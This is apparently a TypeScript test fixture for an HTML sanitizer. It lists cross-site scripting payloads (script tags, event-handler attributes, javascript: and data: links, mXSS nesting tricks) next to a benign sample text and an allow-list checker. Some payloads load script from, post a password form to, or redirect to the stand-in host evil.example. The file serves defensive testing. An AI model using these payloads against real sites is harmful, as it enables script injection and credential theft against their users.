import { RICH_TEXT_ATTRIBUTES, RICH_TEXT_LINK, RICH_TEXT_TAGS } from '../domain/kernel/rich-text.ts';

/** What is sent by whoever wants a script to run in another person's page. Server and page are fed the same. */
export const RICH_TEXT_ATTACKS = [
  '<script>alert(1)</script>',
  '<p>a<script src=//evil.example></script>b</p>',
  '<img src=x onerror=alert(1)>',
  '<p onclick="alert(1)">a</p>',
  '<svg onload=alert(1)><p>a</p></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<a href="javascript:alert(1)">a</a>',
  '<a href=" javascript:alert(1)">a</a>',
  '<a href="java\tscript:alert(1)">a</a>',
  '<a href="&#106;avascript:alert(1)">a</a>',
  '<a href="data:text/html,<script>alert(1)</script>">a</a>',
  '<a href="vbscript:alert(1)">a</a>',
  '<a href="/api/logout">a</a>',
  '<a href="//evil.example">a</a>',
  '<a href="https://ok.example" style="position:fixed;inset:0" target="_top" id="x" data-x="1">a</a>',
  '<iframe src="https://evil.example"></iframe>',
  '<object data="x"></object><embed src="x">',
  '<form action="https://evil.example"><input name="password"><button>Go</button></form>',
  '<style>*{display:none}</style><p>a</p>',
  '<p style="background:url(//evil.example)">a</p>',
  '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=//evil.example">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><img src=x onerror=alert(1)></template>',
  '<p><a href="https://a.example"><b onmouseover=alert(1)>a</b></a></p>',
  '<div id="root"><h1 class="x">a</h1></div>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<p>a',
  `${'<blockquote>'.repeat(300)}a`,
];

/** A text as people write it, which both leave as it is. */
export const RICH_TEXT_WRITTEN =
  '<h2>Title</h2><p>A <strong>bold</strong> and <em>slanted</em> word,<br>a <a href="https://example.com/?a=1&amp;b=2">link</a> &amp; <a href="mailto:lea@example.com">another</a></p><ul><li><p>one</p></li></ul><ol><li>two</li></ol><blockquote><p>said</p></blockquote><pre><code>1 &lt; 2</code></pre>';

/** An element as a parser finds it: its tag and its attributes. */
export interface Found {
  readonly tag: string;
  readonly attributes: readonly (readonly [name: string, value: string])[];
}

/** Which of the elements the list does not let in. */
export const foreignIn = (elements: readonly Found[]): string[] =>
  elements.flatMap(({ tag, attributes }) => {
    if (!RICH_TEXT_TAGS.some((known) => known === tag)) return [tag];
    return attributes
      .filter(([name, value]) => !RICH_TEXT_ATTRIBUTES[tag]?.includes(name) || !RICH_TEXT_LINK.test(value))
      .map(([name, value]) => `${tag} ${name}=${value}`);
  });
